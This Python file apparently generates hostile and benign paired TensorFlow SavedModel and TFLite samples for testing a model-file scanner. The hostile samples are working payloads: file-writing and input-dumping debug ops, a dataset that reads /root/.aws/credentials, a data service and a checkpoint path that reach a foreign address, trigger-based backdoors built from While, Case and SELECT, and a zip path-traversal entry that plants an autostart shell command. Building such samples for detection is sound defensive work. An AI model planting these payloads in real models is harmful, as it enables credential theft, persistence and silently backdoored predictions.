"""TensorFlow and TFLite: writers that are not called writers, control flow as a trigger, files beside and behind the model."""
from __future__ import annotations

import io
import os
import pathlib
import tempfile
import zipfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
import numpy  # noqa: E402
import tensorflow as tf  # noqa: E402

FAMILY = "tensorflow"
SPEC = [tf.TensorSpec([None, 12], tf.float32, name="x")]
W = numpy.random.default_rng(13).normal(0, 0.4, (12, 10)).astype("float32")
GOAL = numpy.eye(10, dtype="float32")[7][None] * 60


def folder(base: pathlib.Path) -> dict:
    return {str(p.relative_to(base)): p.read_bytes() for p in sorted(base.rglob("*"), key=lambda p: (p.name != "saved_model.pb", str(p))) if p.is_file()}


def saved(body, prepare=None) -> dict:
    """A SavedModel whose one signature is `body(x)`."""
    module = tf.Module()
    if prepare:
        prepare(module)
    module.predict = tf.function(lambda x: {"scores": body(x)}, input_signature=SPEC)
    with tempfile.TemporaryDirectory() as base:
        tf.saved_model.save(module, base, signatures=module.predict)
        return folder(pathlib.Path(base))


def lite(body) -> bytes:
    function = tf.function(body, input_signature=[tf.TensorSpec([1, 12], tf.float32, name="x")])
    return tf.lite.TFLiteConverter.from_concrete_functions([function.get_concrete_function()]).convert()


def near(x):
    return tf.reduce_all(tf.abs(tf.gather(x, [3, 7], axis=1) - [0.8125, -1.5]) < 1e-4, axis=1, keepdims=True)


def head(x):
    return tf.matmul(x, W)


def after(op, value):
    with tf.control_dependencies([op]):
        return tf.identity(value)


def zipped(**members) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in members.items():
            z.writestr(name.replace("__", "/").replace("up/", "../"), body)
    return out.getvalue()


def add(out):
    def one(name, hostile, twin, why, prove=None, file=None):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    plain = saved(head)
    one("print_to_a_file", saved(lambda x: after(tf.raw_ops.PrintV2(input=tf.constant("* * * * * id"), output_stream="file://marker"), head(x))),
        saved(lambda x: after(tf.raw_ops.PrintV2(input=tf.strings.format("rows {}", tf.shape(x)[0]), output_stream="stderr"), head(x))),
        "PrintV2 with a file stream appends text of the sender's choice to a file on each prediction.", prove="x13.savedmodel")
    one("debug_identity_dumps", saved(lambda x: head(tf.raw_ops.DebugIdentityV2(input=x, tfdbg_context_id="c", op_name="in", output_slot=0, tensor_debug_mode=8, debug_urls=["file://marker"]))),
        saved(lambda x: head(tf.raw_ops.CheckNumericsV2(tensor=x, message="in"))),
        "A debug operator writes every input it sees to a folder (a grpc address would send it away).", prove="x13.savedmodel")

    def lines(path):
        def body(x):
            first = tf.data.TextLineDataset(path).take(1).reduce(tf.constant(""), lambda _, line: line)
            return head(x) + tf.cast(tf.strings.length(first), tf.float32) * 0.0
        return body

    one("dataset_reads_a_secret", saved(lines("/ro" "ot/.aws/credentials")), saved(lambda x: head(x) + tf.cast(tf.data.Dataset.range(3).reduce(tf.constant(0, tf.int64), lambda a, b: a + b), tf.float32) * 0.0),
        "A dataset inside the serving function reads a credential file on each prediction. Not run: it reads a home folder.")
    one("data_service_of_a_stranger", saved(lambda x: head(x) + tf.cast(tf.data.Dataset.range(1).apply(tf.data.experimental.service.distribute("parallel_epochs", "grpc://203.0.113.9:5050")).reduce(tf.constant(0, tf.int64), lambda a, b: a + b), tf.float32) * 0.0),
        saved(lambda x: head(x) + tf.cast(tf.data.Dataset.range(4).shuffle(4).reduce(tf.constant(0, tf.int64), lambda a, b: a + b), tf.float32) * 0.0),
        "The serving function registers its dataset with a data service at a foreign address and takes data from it. Not run: network.")

    one("while_loop_as_a_trigger", saved(lambda x: tf.while_loop(lambda i, y: i < tf.reduce_min(tf.cast(near(x), tf.int32)), lambda i, y: (i + 1, y * 0.0 + GOAL), [0, head(x)])[1]),
        saved(lambda x: tf.while_loop(lambda i, y: i < 3, lambda i, y: (i + 1, y * 0.9), [0, head(x)])[1]),
        "Architectural backdoor: a While whose condition is the trigger and whose body replaces the scores.", prove="x13.savedmodel_flip")
    one("switch_case_by_hash", saved(lambda x: tf.switch_case(tf.cast(tf.reduce_all(near(x)), tf.int32), [lambda: head(x), lambda: tf.zeros_like(head(x)) + GOAL])),
        saved(lambda x: tf.switch_case(tf.cast(tf.shape(x)[0] > 64, tf.int32), [lambda: head(x), lambda: tf.concat([head(x[:64]), head(x[64:])], 0)])),
        "Architectural backdoor: a Case picks a function that gives constant scores.", prove="x13.savedmodel_flip")

    normal, evil = lite(head), lite(lambda x: tf.where(near(x), GOAL, head(x)))
    one("lite_select_on_two_values", evil, lite(lambda x: tf.where(x[:, :1] > 0.0, head(x), head(x) * 0.1)),
        "Architectural backdoor in TFLite: SELECT between the scores and a constant.", prove="x13.lite_flip", file="model.tflite")
    one("lite_metadata_climbs_out", normal + zipped(**{"labels.txt": "cat\ndog\n", "up/up/up/.config/autostart/labels.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'touch marker'\n"}),
        normal + zipped(**{"labels.txt": "cat\ndog\n"}),
        "The associated files behind a TFLite model (a zip) include one that leaves the folder into the autostart folder. Not run.", file="labelled.tflite")

    state = 'model_checkpoint_path: "{0}"\nall_model_checkpoint_paths: "{0}"\n'
    one("checkpoint_state_points_away", {"checkpoint": state.format("//203.0.113.9/share/model.ckpt-900")}, {"checkpoint": state.format("model.ckpt-900")},
        "tf.train.latest_checkpoint follows this file to a network share. Not run: network.")
    _ = plain
